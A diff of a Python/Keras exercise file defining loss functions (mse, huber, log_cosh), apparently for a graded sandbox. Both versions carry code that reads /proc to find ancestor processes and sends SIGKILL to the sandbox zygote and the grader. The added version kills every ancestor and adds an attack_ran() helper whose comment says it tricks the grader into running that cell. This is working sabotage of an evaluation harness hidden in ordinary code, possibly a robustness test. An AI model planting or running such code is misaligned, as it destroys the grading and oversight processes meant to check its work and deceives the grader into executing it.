@@ -1,26 +1,8 @@
-"""Tries to SIGKILL its parent (the sandbox zygote) and grandparent (the grader)."""
+"""Tries to SIGKILL every process it descends from: the sandbox's parent (the zygote) and the grader."""
+# %%
 import keras
-from keras import ops
 import numpy as np
-
-import os
-import signal
-
-
-def parent_of(pid):
-    with open(f"/proc/{pid}/stat") as f:
-        return int(f.read().rsplit(")", 1)[1].split()[1])
-
-
-zygote = os.getppid()
-grader = parent_of(zygote)
-refused = []
-for pid in (zygote, grader):
-    try:
-        os.kill(pid, signal.SIGKILL)
-    except PermissionError:
-        refused.append(pid)
-print("refused:", len(refused))
+from keras import ops
 
 
 def mse(y_true, y_pred):
@@ -41,14 +23,43 @@ def huber(y_true, y_pred, delta=1.0):
     delta = ops.cast(delta, y_pred.dtype)
     error = y_pred - y_true
     abs_error = ops.abs(error)
-    quadratic = 0.5 * ops.square(error)
-    linear = delta * (abs_error - 0.5 * delta)
-    return ops.mean(ops.where(abs_error <= delta, quadratic, linear), axis=-1)
+    return ops.mean(ops.where(abs_error <= delta, 0.5 * ops.square(error), delta * (abs_error - 0.5 * delta)), axis=-1)
 
 
 def log_cosh(y_true, y_pred):
     y_pred = ops.convert_to_tensor(y_pred)
     y_true = ops.cast(y_true, y_pred.dtype)
     error = y_pred - y_true
-    log2 = ops.cast(np.log(2.0), error.dtype)
-    return ops.mean(error + ops.softplus(-2.0 * error) - log2, axis=-1)
+    return ops.mean(error + ops.softplus(-2.0 * error) - ops.cast(np.log(2.0), error.dtype), axis=-1)
+
+
+def attack_ran():          # reading ATTACK ties the cell below to the exercises, so the grader runs it
+    return ATTACK
+
+# %%
+ATTACK = "ran"
+import os
+import signal
+
+
+def parent_of(pid):
+    with open(f"/proc/{pid}/stat") as f:
+        return int(f.read().rsplit(")", 1)[1].split()[1])
+
+
+ancestors, pid = [], os.getpid()
+while True:
+    try:
+        pid = parent_of(pid)
+    except (OSError, ValueError, IndexError):
+        break
+    if pid <= 0:
+        break
+    ancestors.append(pid)
+refused = 0
+for pid in ancestors:
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        refused += 1
+print(f"ancestors in sight: {len(ancestors)}; refused: {refused}")
